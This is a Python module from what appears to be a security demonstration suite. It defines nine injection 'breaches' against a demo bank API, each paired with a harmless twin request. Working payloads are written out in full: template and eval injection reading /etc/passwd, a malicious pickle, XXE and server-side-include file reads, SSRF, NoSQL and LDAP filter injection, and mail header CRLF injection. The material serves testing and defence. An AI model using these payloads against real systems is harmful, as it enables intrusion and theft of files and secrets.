"""Breaches that smuggle a further language into a value: templates, programs, filters, mails, objects, markup, URLs."""

import base64
from collections.abc import Callable
from typing import Final
from urllib.parse import quote

from doorward.demo.breaches.case import API7, API8, Answers, Breach, found, line_with
from doorward.demo.client import Client

_SECRETS: Final = "vault-master-key"
_XML: Final = (("Content-Type", "application/xml"),)
_PICKLE: Final = b'cbuiltins\neval\n(S\'__import__("pathlib").Path("/etc/passwd").read_text()\'\ntR.'
_HARMLESS_PICKLE: Final = b"(dp0\nS'theme'\np1\nS'dark'\np2\ns."
_ENTITY: Final = b'<!DOCTYPE o [<!ENTITY x SYSTEM "file:secrets.txt">]><order>&x;</order>'


def _ask(path: str, value: str) -> Callable[[Client], Answers]:
    return lambda client: (client.get(f"{path}={quote(value, safe='')}", "alice"),)


def _fetch(client: Client, path: str) -> Answers:
    url = f"http://127.0.0.1:{client.bank_port}{path}"
    return (client.get(f"/logo?url={quote(url, safe='')}", "alice"),)


def _fetch_by_name(client: Client) -> Answers:
    url = f"http://localhost:{client.bank_port}/health"
    return (client.get(f"/logo?url={quote(url, safe='')}", "alice"),)


def _order(body: bytes) -> Callable[[Client], Answers]:
    return lambda client: (client.ask("POST", "/payments", "alice", _XML, body),)


BREACHES: Final = (
    Breach(
        id="template",
        name="have a letter's template run a command",
        threat=API8,
        code="inspect.template",
        attack=_ask("/letters/preview?template", "{{ __import__('subprocess').getoutput('head -n 1 /etc/passwd') }}"),
        evidence=lambda answers: line_with(answers, "root:"),
        twin=_ask("/letters/preview?template", "Dear {{ amount }}"),
        twin_works=found("Dear 12.50"),
    ),
    Breach(
        id="code",
        name="have the calculator read a file",
        threat=API8,
        code="inspect.code",
        attack=_ask("/calculator?expression", "__import__('pathlib').Path('/etc/passwd').read_text()"),
        evidence=lambda answers: line_with(answers, "root:"),
        twin=_ask("/calculator?expression", "(12 + 8) * 3"),
        twin_works=found("60"),
    ),
    Breach(
        id="ssrf",
        name="have a logo come from the bank's own machine",
        threat=API7,
        code="inspect.ssrf",
        attack=lambda client: _fetch(client, "/debug/config"),
        evidence=lambda answers: line_with(answers, "database"),
        twin=_fetch_by_name,
        twin_works=found("ok"),
    ),
    Breach(
        id="nosql",
        name="find every contact by an operator",
        threat=API8,
        code="inspect.nosql",
        attack=_ask("/contacts?filter", '{"owner": {"$ne": "alice"}}'),
        evidence=lambda answers: line_with(answers, "Vera Vault"),
        twin=_ask("/contacts?filter", '{"owner": "alice"}'),
        twin_works=found("Ann Lee"),
    ),
    Breach(
        id="ldap",
        name="find colleagues who may not be found",
        threat=API8,
        code="inspect.ldap",
        attack=_ask("/colleagues?name", "*))(|(name=x"),
        evidence=lambda answers: line_with(answers, "Vera Vault"),
        twin=_ask("/colleagues?name", "Ann Lee"),
        twin_works=found("Ann Lee"),
    ),
    Breach(
        id="xml-entity",
        name="have a payment order read a file",
        threat=API8,
        code="validate.xml",
        attack=_order(_ENTITY),
        evidence=lambda answers: line_with(answers, _SECRETS),
        twin=_order(b"<order>12.50 for Ann</order>"),
        twin_works=found("12.50 for Ann"),
    ),
    Breach(
        id="mail-header",
        name="send an invitation to everybody",
        threat=API8,
        code="inspect.crlf",
        attack=_ask("/invitation?to", "ann@example.com\nBcc: everybody@bank.example"),
        evidence=lambda answers: line_with(answers, "everybody@bank.example"),
        twin=_ask("/invitation?to", "ann@example.com"),
        twin_works=found("ann@example.com"),
    ),
    Breach(
        id="deserialization",
        name="have preferences run code on being read",
        threat=API8,
        code="inspect.deserialization",
        attack=_ask("/preferences?data", base64.b64encode(_PICKLE).decode()),
        evidence=lambda answers: line_with(answers, "root:"),
        twin=_ask("/preferences?data", base64.b64encode(_HARMLESS_PICKLE).decode()),
        twin_works=found("dark"),
    ),
    Breach(
        id="server-include",
        name="have the newsletter include a file",
        threat=API8,
        code="inspect.ssi",
        attack=_ask("/newsletter?text", '<!--#include virtual="secrets.txt" -->'),
        evidence=lambda answers: line_with(answers, _SECRETS),
        twin=_ask("/newsletter?text", "<!-- spring --> news"),
        twin_works=found("news"),
    ),
)
"""Is anything in it a program?"""
